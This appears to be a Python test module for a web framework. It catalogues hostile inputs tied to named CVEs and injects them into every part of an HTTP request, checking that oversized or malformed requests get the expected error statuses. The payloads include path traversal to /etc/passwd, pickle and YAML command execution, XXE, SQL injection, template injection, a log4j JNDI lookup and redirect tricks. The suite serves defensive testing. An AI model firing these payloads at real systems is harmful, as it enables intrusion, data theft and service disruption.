"""What attackers send: a row for each known advisory or trick, and the places it is put in.

A payload is bytes, put into path, query, cookie, header, urlencoded form, multipart form and JSON.
What has a shape of its own (a flood of parts, a body cut short) is a row of ``SHAPES`` with the
statuses that may answer it.
"""

from __future__ import annotations

import json
import typing as t
from urllib.parse import quote

from hostile.doors import Ask

FORM = b"application/x-www-form-urlencoded"
BOUNDARY = b"hostile-boundary"
MULTIPART = b"multipart/form-data; boundary=" + BOUNDARY
JSON = b"application/json"

YEAR = b"Sat, 01 Jan 99999999999999999999 00:00:00 GMT"

PAYLOADS: dict[str, bytes] = {
    # Bytes that are no text, or that end texts
    "nul": b"a\x00b",
    "controls": bytes(range(1, 32)) + b"\x7f",
    "crlf-header (CVE-2024-1681, Tornado CVE-2025-67724)": b"x\r\nX-Evil: 1\r\nSet-Cookie: a=b",
    "crlf-body": b"x\r\n\r\n<html>evil</html>",
    "lf": b"x\nX-Evil: 1",
    "cr": b"x\rX-Evil: 1",
    "not-utf8": b"\xff\xfe\xfd",
    "overlong-slash": b"..\xc0\xaf..\xc0\xafsecret.txt",
    "surrogate": b"\xed\xa0\x80\xed\xbf\xbf",
    "cut-utf8": b"\xe2\x98",
    "latin1": "é".encode("latin-1"),
    "utf7": b"+ADw-script+AD4-",
    "utf16": "<script>".encode("utf-16"),
    "bidi": "\u202eevil\u2066".encode(),
    "line-separator (Django CVE-2021-32052)": "a\u2028b\u0085c".encode(),
    "nfkc (Django CVE-2023-46695, CVE-2025-64458)": ("\ufdfa" * 2000).encode(),
    "fullwidth-slashes": "\uff0f\uff0fevil.test".encode(),
    "account-of (NFKC host)": "http://\u2100.com".encode(),
    "combining": ("a" + "\u0301" * 10_000).encode(),
    "emoji": ("👩\u200d👩\u200d👧" * 500).encode(),
    "unicode-digits (aiohttp CVE-2025-69224)": "١٢٣".encode(),
    # Paths
    "traversal": b"../../../../etc/passwd",
    "traversal-encoded": b"%2e%2e/%2e%2e/secret.txt",
    "traversal-twice-encoded": b"%252e%252e%252fsecret.txt",
    "traversal-backslash": b"..\\..\\secret.txt",
    "traversal-dots": b"....//....//secret.txt",
    "traversal-semicolon": b"..;/secret.txt",
    "sibling (CVE-2023-29159)": b"../files_evil.txt",
    "sibling-folder (CVE-2024-23334)": b"../files2/file.txt",
    "absolute": b"/etc/passwd",
    "unc (CVE-2024-49766, CVE-2026-48818)": b"\\\\host\\share\\file",
    "unc-slashes (CVE-2024-49766)": b"//server/share",
    "device-con (CVE-2025-66221)": b"CON",
    "device-aux (CVE-2026-21860)": b"aux.txt",
    "device-com1 (CVE-2026-27199)": "COM\u00b9".encode(),
    "device-nested": b"sub/NUL",
    "device-space": b"COM1 .txt",
    "drive": b"C:/windows/win.ini",
    "stream": b"file.txt::$DATA",
    "git": b".git/config",
    "many-slashes": b"/" * 5000,
    "many-dots": b"../" * 3000,
    "upload-name (Django CVE-2021-31542)": b"../static/evil.py",
    "name-rfd (Django CVE-2022-36359)": b'evil.bat";x="a',
    # Addresses
    "open-redirect-slash (CVE-2021-23401)": b"/\\evil.test",
    "open-redirect-backslashes (CVE-2021-23385)": b"\\\\evil.test",
    "open-redirect-slashes (CVE-2023-49438)": b"///evil.test",
    "open-redirect-scheme": b"http:evil.test",
    "redirect-bracket": b"http://[",
    "redirect-ports": b"http://a:b:c",
    "redirect-label": b"//" + b"a" * 64,
    "redirect-label-scheme": b"http://" + "\u00fc".encode() * 64 + b"/x",
    "redirect-javascript": b"javascript:alert(1)",
    "redirect-data": b"data:text/html,<script>alert(1)</script>",
    "redirect-port-huge": b"http://a:99999999999999999999/",
    "redirect-zone": b"http://[::1%25eth0]/",
    "authority (CVE-2026-54282)": b"@evil.test",
    "host-with-path (CVE-2026-48710)": b"a/b?c#d",
    "xn-bad": b"xn--a",
    "xn-long (CVE-2022-45061)": b"xn--" + b"a" * 5000,
    # Injection
    "script": b"<script>alert(1)</script>",
    "attribute": b"\"'><img src=x onerror=alert(1)>",
    "xmlattr (Jinja2 CVE-2024-22195)": b"onclick=alert(1) x/y>z",
    "template": b"{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "template-config": b"{{ config }}{{ config.SECRET_KEY }}",
    "format (Jinja2 CVE-2024-56326)": b"{0.__class__.__init__.__globals__}%(secret)s%n%s",
    "dunder": b"__class__.__mro__[1].__subclasses__",
    "proto": b"__proto__[polluted]",
    "pickle (CVE-2021-33026)": b"cos\nsystem\n(S'id'\ntR.",
    "yaml": b"!!python/object/apply:os.system ['id']",
    "sql": b"' OR 1=1; DROP TABLE users--",
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "log4j": b"${jndi:ldap://evil.test/a}",
    "ansi": b"\x1b[2J\x1b]0;evil\x07",
    # Numbers and dates
    "digits": b"9" * 6000,
    "float-huge": b"1e99999",
    "nan": b"NaN",
    "infinity": b"-Infinity",
    "underscores": b"1_000",
    "hex": b"0x10",
    "date-year": YEAR,
    "date-zone": b"Sat, 01 Jan 2000 00:00:00 +9999999999",
    "date-negative": b"Sat, -1 Jan -1 -1:-1:-1 GMT",
    "date-words (Django CVE-2023-36053)": b"Mon, " * 5000,
    # Length and repetition
    "long": b"a" * 60_000,
    "spaces": b" " * 12_000 + b"x",
    "tabs": b"\t" * 12_000,
    "percents": b"%" * 12_000,
    "equals": b"=" * 12_000,
    "ampersands (aiohttp CVE-2025-69228)": b"&" * 12_000,
    "semicolons (Django CVE-2021-23336)": b"a=1;" * 5_000,
    "commas (Django CVE-2023-23969)": b"en," * 5_000,
    "quotes": b'"' * 12_000,
    "backslashes (CVE-2024-7592)": b'"' + b"\\" * 12_000,
    "octals (CVE-2024-7592)": b'"' + b"\\101" * 5_000 + b'"',
    "brackets (RecursionError)": b"[" * 40_000,
    "braces": b'{"a":' * 8_000,
    "parens": b"(" * 12_000,
    "angle-brackets (Django CVE-2024-45230)": b"<" * 12_000,
    "urls (Django urlize)": b"http://a." * 5000,
    "email (CVE-2021-32838)": b"a@" + b"a." * 5_000 + b"!",
    "type-parameters (CVE-2024-24762)": b'form-data; x="' + b"\\" * 8_000,
    "header-parameters (Tornado CVE-2025-67726)": b'form-data; a="b"' * 3000,
    "continuations": b";".join(b"name*%d=x" % n for n in range(5000)),
    "etags": b'W/"a",' * 3000,
    "ranges-many (Starlette CVE-2025-62727)": b"bytes=" + b"0-0," * 5_000,
    "ranges-ascending": b"bytes=" + b",".join(b"%d-%d" % (n, n) for n in range(3000)),
    "ranges-overlapping": b"bytes=" + b"0-,5-0," * 5000,
    "weights": b",".join(b"text/x%d;q=0.%d" % (n, n) for n in range(3000)),
    "base64": b"=" * 100 + b"A" * 8_000,
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff",
    "cr-flood (CVE-2023-46136)": b"\r" * 8_000,
    "crlf-flood (CVE-2023-46136)": b"\r\n--" * 5_000,
    # Credentials and cookies
    "basic-garbage": b"Basic \xff\xfe",
    "basic-padding (Django CVE-2026-33033)": b"Basic " + b" =" * 5000,
    "bearer-empty (CVE-2026-34531)": b"Bearer ",
    "digest": b'Digest username="' + b"\\" * 5000 + b'", realm=',
    "cookie-nameless (CVE-2023-23934)": b"=__Host-session=evil",
    "cookie-attributes (Tornado)": b"x; Domain=evil.test; Path=/",
    "cookie-session-unsigned": b"eyJhbGciOiJub25lIn0.e30.",
    "cookie-session-dots": b"." * 3000,
}


def in_path(payload: bytes) -> list[Ask]:
    """The payload as a segment, as the rest of a path, as a file's name, as numbers."""
    segment = quote(payload, safe="").encode()
    whole = quote(payload, safe="/").encode()
    return [
        Ask(b"/string/" + segment),
        Ask(b"/pages/" + whole),
        Ask(b"/files/" + whole),
        Ask(b"/static/" + whole),
        Ask(b"/two/" + whole + b"/x/" + whole + b"/y"),
        Ask(b"/int/" + segment[:8000]),
        Ask(b"/" + whole),
    ]


def in_query(payload: bytes) -> list[Ask]:
    """The payload as a value and as a name, escaped and raw, where it is echoed in each way."""
    value = quote(payload, safe="").encode()
    raw = payload.replace(b"#", b"").replace(b" ", b"+")
    return [
        Ask(b"/seen", b"v=" + value + b"&n=" + value[:6000] + b"&f=" + value[:6000]),
        Ask(b"/seen", value + b"=v"),
        Ask(b"/seen", raw),
        *(
            Ask(path, b"v=" + value)
            for path in (b"/header", b"/cookie", b"/download", b"/template", b"/url", b"/async")
        ),
        Ask(b"/session-write", b"v=" + value),
        Ask(b"/redirect", b"to=" + value),
        Ask(b"/slash", raw),
    ]


def in_cookie(payload: bytes) -> list[Ask]:
    """The payload as a cookie, as the session's, and as a name."""
    return [
        Ask(b"/seen", headers=((b"Cookie", b"a=" + payload),)),
        Ask(b"/session", headers=((b"Cookie", b"session=" + payload),)),
        Ask(b"/session-write", headers=((b"Cookie", b'session="' + payload),)),
        Ask(b"/session", headers=((b"Cookie", payload + b"=session; session"),)),
    ]


HEADERS = (
    b"Accept",
    b"Accept-Charset",
    b"Accept-Encoding",
    b"Accept-Language",
    b"Authorization",
    b"Cache-Control",
    b"Content-MD5",
    b"Content-Type",
    b"Date",
    b"Forwarded",
    b"If-Match",
    b"If-Modified-Since",
    b"If-None-Match",
    b"If-Range",
    b"If-Unmodified-Since",
    b"Max-Forwards",
    b"Origin",
    b"Pragma",
    b"Range",
    b"Referer",
    b"User-Agent",
    b"X-Forwarded-For",
    b"X-Forwarded-Host",
    b"X-HTTP-Method-Override",
)


def in_header(payload: bytes) -> list[Ask]:
    """The payload in all headers at once, and where conditions and ranges are answered."""
    every = tuple((name, payload) for name in HEADERS)
    conditions = tuple(
        (name, payload)
        for name in (b"If-Range", b"If-None-Match", b"If-Modified-Since", b"Authorization")
    )
    return [
        Ask(b"/seen", headers=every),
        Ask(b"/etag", headers=((b"Range", payload),)),
        Ask(b"/etag", headers=(*conditions, (b"Range", b"bytes=0-5"))),
        Ask(b"/static/file.txt", headers=((b"If-Modified-Since", payload),)),
        Ask(b"/static/file.txt", headers=((b"Range", payload), (b"If-Range", payload))),
        Ask(b"/login", headers=((b"Authorization", payload),)),
        Ask(b"/login", headers=((b"Authorization", b"Basic " + payload),)),
        Ask(b"/seen", headers=((b"X-Plain", payload), (b"X_Plain", b"shadow"))),
        Ask(b"/", host=payload),
        Ask(b"/seen", host=payload),
    ]


def in_urlencoded(payload: bytes) -> list[Ask]:
    """The payload as a field's value and name, escaped and raw."""
    value = quote(payload, safe="").encode()
    kind = ((b"Content-Type", FORM),)
    return [
        Ask(b"/form", method="POST", headers=kind, body=(b"a=" + value + b"&b=2",)),
        Ask(b"/form", method="POST", headers=kind, body=(value + b"=1",)),
        Ask(b"/form", method="POST", headers=kind, body=(payload[:50], payload[50:])),
        Ask(b"/async", method="POST", headers=kind, body=(payload,), declared=-1),
        Ask(
            b"/form",
            method="POST",
            headers=((b"Content-Type", FORM + b"; " + payload),),
            body=(b"a=1",),
        ),
    ]


def part(content: bytes, name: bytes = b"a", rest: bytes = b"") -> bytes:
    """One part of a form."""
    head = b'Content-Disposition: form-data; name="' + name + b'"' + rest
    return b"--" + BOUNDARY + b"\r\n" + head + b"\r\n\r\n" + content + b"\r\n"


END = b"--" + BOUNDARY + b"--\r\n"


def in_multipart(payload: bytes) -> list[Ask]:
    """The payload as a field, a file, a name, a file's name, a part's type, a boundary, a body."""
    kind = ((b"Content-Type", MULTIPART),)
    whole = part(payload) + part(payload, b"f", b'; filename="' + payload[:2000] + b'"')
    typed = part(b"x", b"f", b'; filename="f"\r\nContent-Type: ' + payload[:2000])
    bodies = [
        whole + END,
        part(b"x", payload[:2000]) + END,
        typed + END,
        part(b"x", b"f", b"; filename*=" + payload[:2000]) + END,
        payload,
        payload + part(b"x") + END + payload,
    ]
    asks = [Ask(b"/form", method="POST", headers=kind, body=(body,)) for body in bodies]
    boundary = ((b"Content-Type", b"multipart/form-data; boundary=" + payload),)
    asks.append(Ask(b"/form", method="POST", headers=boundary, body=(whole,)))
    half = len(whole) // 2
    asks.append(Ask(b"/form", method="POST", headers=kind, body=(whole[:half], whole[half:] + END)))
    return asks


def in_json(payload: bytes) -> list[Ask]:
    """The payload as a value, as a key, as escapes, and as the document."""
    text = payload.decode("utf-8", "surrogateescape")
    kind = ((b"Content-Type", JSON),)
    documents = [
        json.dumps({"v": text}).encode(),
        json.dumps({text: "v"}).encode(),
        json.dumps([text] * 3, ensure_ascii=False).encode("utf-8", "surrogateescape"),
        payload,
        b'{"v": ' + payload + b"}",
    ]
    return [
        Ask(path, method="POST", headers=kind, body=(document,))
        for document in documents
        for path in (b"/json", b"/json-walk")
    ]


PLACES: dict[str, t.Callable[[bytes], list[Ask]]] = {
    "path": in_path,
    "query": in_query,
    "cookie": in_cookie,
    "header": in_header,
    "urlencoded": in_urlencoded,
    "multipart": in_multipart,
    "json": in_json,
}


# Requests with a shape of their own, and what may answer them


class Shape(t.NamedTuple):
    """A request, and the statuses that are right."""

    ask: Ask
    statuses: tuple[int, ...]
    settings: dict[str, t.Any] = {}  # noqa: RUF012  # never changed


def form(body: bytes | tuple[bytes, ...], path: bytes = b"/form", **rest: t.Any) -> Ask:
    """An urlencoded POST."""
    pieces = body if isinstance(body, tuple) else (body,)
    return Ask(path, method="POST", headers=((b"Content-Type", FORM),), body=pieces, **rest)


def parts(body: bytes | tuple[bytes, ...], kind: bytes = MULTIPART, **rest: t.Any) -> Ask:
    """A multipart POST."""
    pieces = body if isinstance(body, tuple) else (body,)
    return Ask(b"/form", method="POST", headers=((b"Content-Type", kind),), body=pieces, **rest)


def document(body: bytes, path: bytes = b"/json", kind: bytes = JSON, **rest: t.Any) -> Ask:
    """A JSON POST."""
    return Ask(path, method="POST", headers=((b"Content-Type", kind),), body=(body,), **rest)


FILE = b'; filename="f"'
SMALL = {"MAX_CONTENT_LENGTH": 1000}

SHAPES: dict[str, Shape] = {
    "parts-1001 (CVE-2023-25577)": Shape(parts(part(b"") * 1001 + END), (413,)),
    "files-1001 (Django CVE-2023-24580)": Shape(parts(part(b"", b"f", FILE) * 1001 + END), (413,)),
    "field-600k (CVE-2024-49767)": Shape(parts(part(b"x" * 600_000) + END), (413,)),
    "fields-cumulative (CVE-2024-49767)": Shape(parts(part(b"x" * 400_000) * 41 + END), (413,)),
    "fields-urlencoded (Starlette CVE-2026-54283)": Shape(form(b"a=1&" * 10_001), (413,)),
    "fields-configured-urlencoded": Shape(form(b"a=1&" * 6), (413,), {"MAX_FORM_FIELDS": 5}),
    "fields-configured-multipart": Shape(
        parts(part(b"1") * 6 + END), (413,), {"MAX_FORM_FIELDS": 5}
    ),
    "text-configured-urlencoded": Shape(
        form(b"a=" + b"x" * 2000), (413,), {"MAX_FORM_TEXT_SIZE": 1000}
    ),
    "text-configured-chunked": Shape(
        form((b"a=", b"x" * 2000), declared=-1), (413,), {"MAX_FORM_TEXT_SIZE": 1000}
    ),
    "text-configured-multipart": Shape(
        parts(part(b"x" * 600) * 2 + END), (413,), {"MAX_FORM_TEXT_SIZE": 1000}
    ),
    "text-16M": Shape(form((b"a=",) + (b"x" * 1_000_000,) * 17), (413,)),
    "preamble-3M (CVE-2026-40347)": Shape(parts(b"p" * 3_000_000 + part(b"x") + END), (413,)),
    "epilogue-3M (CVE-2024-53981)": Shape(parts(part(b"x") + END + b"e" * 3_000_000), (413,)),
    "part-headers-50k (CVE-2026-42561)": Shape(
        parts(part(b"x", rest=b"\r\nX: y" * 50_000) + END), (413,)
    ),
    "part-headers-17": Shape(parts(part(b"x", rest=b"\r\nX: y" * 17) + END), (413,)),
    "part-header-long": Shape(parts(part(b"x", rest=b"; x=" + b"y" * 9000) + END), (413,)),
    "part-header-without-end": Shape(
        parts(b"--" + BOUNDARY + b"\r\n" + b"X: y\r\n" * 50_000), (413,)
    ),
    "disposition-parameters-50k (Tornado CVE-2025-67726)": Shape(
        parts(part(b"x", rest=b"; a=b" * 50_000) + END), (413,)
    ),
    "boundary-300": Shape(parts(b"x", MULTIPART + b"b" * 300), (400,)),
    "boundary-100k": Shape(parts(b"x", MULTIPART + b"b" * 100_000), (400,)),
    "boundary-configured": Shape(
        parts(part(b"x") + END), (400,), {"MAX_BOUNDARY_LENGTH": len(BOUNDARY) - 1}
    ),
    "file-cr-3M (CVE-2023-46136)": Shape(parts(part(b"\r" * 3_000_000, b"f", FILE) + END), (200,)),
    "file-lf-3M (CVE-2023-46136)": Shape(parts(part(b"\n" * 3_000_000, b"f", FILE) + END), (200,)),
    "file-crlf-3M (CVE-2023-46136)": Shape(
        parts(part(b"\r\n" * 1_500_000, b"f", FILE) + END), (200,)
    ),
    "file-crlf-dashes-3M": Shape(parts(part(b"\r\n--" * 750_000, b"f", FILE) + END), (200,)),
    "file-almost-boundary": Shape(
        parts(part((b"\r\n--" + BOUNDARY[:-1]) * 100_000, b"f", FILE) + END), (200,)
    ),
    "pieces-20k (aiohttp CVE-2025-69229)": Shape(form((b"a",) * 20_000, declared=-1), (200,)),
    "chunked-over-limit": Shape(
        Ask(b"/data", method="POST", body=(b"x" * 600,) * 2, declared=-1), (413,), SMALL
    ),
    "chunked-over-limit-form": Shape(
        form((b"a=" + b"x" * 600, b"x" * 600), declared=-1), (413,), SMALL
    ),
    "chunked-over-limit-stream": Shape(
        Ask(b"/stream-in", method="POST", body=(b"x" * 600,) * 2, declared=-1), (413,), SMALL
    ),
    "chunked-at-limit": Shape(
        Ask(b"/data", method="POST", body=(b"x" * 500,) * 2, declared=-1), (200,), SMALL
    ),
    "declared-over-limit": Shape(
        Ask(b"/data", method="POST", body=(b"x",), declared=10**12), (413,), SMALL
    ),
    "length-digits": Shape(
        Ask(
            b"/data",
            method="POST",
            headers=((b"Content-Length", b"9" * 6000),),
            body=(b"x",),
            declared=-1,
        ),
        (200, 400, 413),
    ),
    "length-digits-20": Shape(
        Ask(b"/data", method="POST", body=(b"x",), declared=10**20), (200, 400, 413)
    ),
    "length-words": Shape(
        Ask(
            b"/data",
            method="POST",
            headers=((b"Content-Length", b"1_0, \xd9\xa3"),),
            body=(b"x",),
            declared=-1,
        ),
        (200, 400),
    ),
    "body-short": Shape(Ask(b"/data", method="POST", body=(b"x" * 5,), declared=500), (400,)),
    "body-short-form": Shape(form(b"a=1", declared=500), (400,)),
    "body-short-json": Shape(document(b"{}", declared=500), (400,)),
    "body-short-multipart": Shape(parts(part(b"x") + END, declared=5000), (400,)),
    "body-short-stream": Shape(
        Ask(b"/stream-in", method="POST", body=(b"x",), declared=500), (400,)
    ),
    "json-as-text (FastAPI CVE-2021-32677)": Shape(document(b"{}", kind=b"text/plain"), (415,)),
    "json-deep": Shape(document(b"[" * 100_000), (400,)),
    "json-deep-closed": Shape(document(b"[" * 100_000 + b"]" * 100_000), (400,)),
    "json-deep-objects": Shape(document(b'{"a":' * 100_000), (400,)),
    "json-deep-silent": Shape(document(b"[" * 100_000, b"/json-walk"), (200,)),
    "json-deep-configured": Shape(document(b"[" * 11 + b"]" * 11), (400,), {"MAX_JSON_DEPTH": 10}),
    "json-not-deep-configured": Shape(
        document(b"[" * 10 + b"]" * 10), (200,), {"MAX_JSON_DEPTH": 10}
    ),
    "json-brackets-in-text": Shape(
        document(b'["' + b"[" * 1000 + b'"]'), (200,), {"MAX_JSON_DEPTH": 10}
    ),
    "json-digits": Shape(document(b"9" * 6000), (400,)),
    "json-surrogate": Shape(document(rb'{"v": "\ud800"}', b"/json-walk"), (200,)),
    "json-utf16-surrogate": Shape(document(b'"\xed\xa0\x80"'), (200, 400)),
    "query-10001": Shape(Ask(b"/seen", b"a&" * 10_001), (414,)),
    "query-10001-spread": Shape(Ask(b"/seen", b"a=1&&" * 10_001), (414,)),
    "query-empty-fields": Shape(Ask(b"/seen", b"&" * 20_000 + b"a=1"), (200,)),
    "query-configured": Shape(Ask(b"/seen", b"a=1&" * 6), (414,), {"MAX_QUERY_FIELDS": 5}),
    "query-at-limit": Shape(Ask(b"/seen", b"a=1&" * 5), (200,), {"MAX_QUERY_FIELDS": 5}),
    "cookies-201": Shape(
        Ask(b"/seen", headers=((b"Cookie", b"; ".join(b"c%d=1" % n for n in range(201))),)), (431,)
    ),
    "cookies-200": Shape(
        Ask(b"/seen", headers=((b"Cookie", b"; ".join(b"c%d=1" % n for n in range(200))),)), (200,)
    ),
    "cookies-configured": Shape(
        Ask(b"/seen", headers=((b"Cookie", b"a=1; b=2; c=3"),)), (431,), {"MAX_COOKIES": 2}
    ),
    "cookies-many-session": Shape(
        Ask(b"/session-write", headers=((b"Cookie", b'session="x"; a=1' * 300),)), (200,)
    ),
    "path-70k": Shape(Ask(b"/pages/" + b"a/" * 35_000), (414,)),
    "path-70k-nowhere": Shape(Ask(b"/" + b"a" * 70_000), (414,)),
    "path-70k-no-text": Shape(Ask(b"/pages/" + b"%ff" * 70_000), (414,)),
    "path-configured": Shape(Ask(b"/pages/" + b"a" * 100), (414,), {"MAX_PATH_LENGTH": 50}),
    "path-two-converters": Shape(Ask(b"/two/" + b"a/x/" * 2000 + b"z"), (404,)),
    "path-two-converters-slashes": Shape(Ask(b"/two/" + b"a/x//" * 1500 + b"y"), (308, 404)),
    "path-two-in-a-segment": Shape(Ask(b"/parts/" + b"-" * 8000), (404,)),
    "path-two-in-a-long-segment": Shape(Ask(b"/parts/" + b"-" * 7000 + b"x.html"), (200,)),
    "path-three-in-a-long-segment": Shape(Ask(b"/multi/" + b"-" * 7000 + b"_x"), (200,)),
    "path-three-in-a-segment-not": Shape(Ask(b"/multi/" + b"-" * 7000), (404,)),
    "path-mixed-in-a-segment": Shape(Ask(b"/mix/" + b"-" * 4000 + b"/x/" * 500), (308,)),
    "path-two-in-a-segment-fits": Shape(Ask(b"/parts/" + b"-" * 2000 + b"x.html"), (200,)),
    "headers-20k (Django CVE-2025-14550, Tornado CVE-2025-67725)": Shape(
        Ask(b"/seen", headers=((b"X-Many", b"x"),) * 20_000), (200,)
    ),
    "cookie-headers-5k": Shape(Ask(b"/session", headers=((b"Cookie", b"a=1"),) * 5000), (200,)),
    "host-two (CVE-2026-34525)": Shape(Ask(host=b"good.test,evil.test"), (400,)),
    "host-none": Shape(Ask(host=None), (200,)),
    "host-empty": Shape(Ask(host=b""), (200,)),
    "method-long": Shape(Ask(method="X" * 10_000), (405,)),
    "method-nul": Shape(Ask(method="GET\x00"), (405,)),
    "method-trace": Shape(Ask(method="TRACE"), (405,)),
    "ranges-100k (CVE-2025-62727)": Shape(
        Ask(b"/static/file.txt", headers=((b"Range", b"bytes=" + b"0-0," * 100_000),)), (200, 416)
    ),
    "ranges-ascending-20k (CVE-2025-62727)": Shape(
        Ask(
            b"/static/file.txt",
            headers=(
                (b"Range", b"bytes=" + b",".join(b"%d-%d" % (2 * n, 2 * n) for n in range(20_000))),
            ),
        ),
        (200, 416),
    ),
}

BAD_HOSTS = [
    b"xn--a",
    b"xn--a.test",
    b"XN--99999999",
    b"a" * 100_000,
    b"a." * 200 + b"test",
    b"a" * 64 + b".test",
    b"a b",
    b"a\x00b",
    b"a\tb",
    b"\xc3\xa9.test",
    b"\xff",
    b"a/b",
    b"a?b",
    b"a#b",
    b"user@evil.test",
    b"a:b",
    b"a:1:2",
    b"a:99999",
    b"a:-1",
    b"[::1",
    b"[zz]",
    b"[1::2::3]",
    b"%31%32",
    b"<script>",
    b"a..b",
    b".",
    b"\\\\evil",
    b"a,b",
    b"a;b",
    b"${x}",
]
GOOD_HOSTS = [
    b"localhost",
    b"localhost:5000",
    b"localhost:",
    b"127.0.0.1",
    b"[::1]:80",
    b"a_b.test",
    b"xn--bcher-kva.test",
    b"xn--fa-hia.de",
    b"UPPER.test",
    b"a.test.",
    b"a" * 63 + b".test",
]
for _host in BAD_HOSTS:
    for _path in (b"/", b"/seen", b"/slash", b"/nowhere"):
        SHAPES[f"host {_host[:20]!a} {_path.decode()}"] = Shape(Ask(_path, host=_host), (400,))
for _host in GOOD_HOSTS:
    SHAPES[f"host {_host[:20]!a}"] = Shape(Ask(b"/seen", host=_host), (200,))
